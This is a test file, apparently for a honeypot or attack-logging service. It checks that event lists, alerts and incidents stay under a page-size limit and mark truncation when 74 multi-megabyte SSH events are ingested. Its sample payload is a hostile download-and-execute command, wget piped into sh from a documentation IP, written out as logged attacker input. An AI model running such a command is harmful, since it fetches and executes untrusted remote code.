/** 74 events of several megabytes must not make one list hundreds of megabytes, which stops the loop and fills memory. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { pageBytes } from '../../src/core/query.ts';
import { mostExtra } from '../../src/ingest/bounded-extra.ts';
import { type Answer, openTestServer } from '../support/server.ts';

interface Listed {
  log_id: string;
  payload: string;
  payload_length?: number;
  extra: { body?: string; name?: string; cut_from_length?: number };
  extra_length?: number;
}

const events = 74;
const bodyLength = 7_400_000;
const payload = `wget http://198.51.100.1/x -O- | sh # ${'y'.repeat(9_900)}`;

describe('74 events of 7.4 MB each', () => {
  it('are taken, and every list of them stays small and complete', async (t) => {
    const server = await openTestServer();
    t.after(() => server.close());
    const user = await server.createUser();
    const node = await server.createNode(user);
    const body = 'x'.repeat(bodyLength);
    for (let n = 0; n < events; n++) {
      const sent = await server.call('POST', '/api/events', {
        headers: node.headers,
        body: [
          {
            timestamp: new Date(Date.now() - n * 1000).toISOString(),
            service: 'ssh',
            source_ip: '203.0.113.50',
            activity: 'command',
            payload,
            extra: { name: `event ${n}`, body },
          },
        ],
      });
      assert.equal(sent.body.accepted, 1, JSON.stringify(sent.body));
    }

    const seen = new Map<string, Listed>();
    let cursor: string | null = null;
    do {
      const query: string = `limit=1000${cursor === null ? '' : `&cursor=${encodeURIComponent(cursor)}`}`;
      const page: Answer<{ items: Listed[]; next_cursor: string | null }> = await server.call(
        'GET',
        `/api/events?${query}`,
        { headers: user.headers },
      );
      assert.ok(JSON.stringify(page.body).length < pageBytes, 'the page is larger than a page may be');
      for (const item of page.body.items) seen.set(item.log_id, item);
      cursor = page.body.next_cursor;
    } while (cursor !== null);
    assert.equal(seen.size, events);

    const listed = seen.values().next().value ?? assert.fail('nothing listed');
    assert.equal(listed.payload_length, payload.length);
    assert.ok(payload.startsWith(listed.payload) && listed.payload.length < payload.length);
    assert.match(listed.extra.name ?? '', /^event \d+$/, 'what is short is whole');
    const whole = await server.call<Listed>('GET', `/api/events/${listed.log_id}`, { headers: user.headers });
    assert.equal(whole.body.payload, payload);
    assert.equal(whole.body.payload_length, undefined);
    assert.ok(JSON.stringify(whole.body.extra).length <= mostExtra);
    assert.equal(listed.extra_length, JSON.stringify(whole.body.extra).length);
    assert.ok((whole.body.extra.cut_from_length ?? 0) > bodyLength, 'the cut is marked with the true length');

    for (const path of ['/api/alerts?limit=1000', '/api/recent-attacks?limit=1000', '/api/logs?limit=1000']) {
      const list = await server.call('GET', path, { headers: user.headers });
      assert.equal(list.status, 200);
      assert.ok(JSON.stringify(list.body).length < pageBytes, path);
    }
    const { body: incidents } = await server.call<{ items: { incident_id: string }[] }>(
      'GET',
      '/api/incidents',
      { headers: user.headers },
    );
    const incident = incidents.items[0] ?? assert.fail('no incident');
    const detail = await server.call('GET', `/api/incidents/${incident.incident_id}`, {
      headers: user.headers,
    });
    assert.equal(detail.status, 200);
    assert.ok(JSON.stringify(detail.body).length < 2 * pageBytes, 'the incident');
  });
});
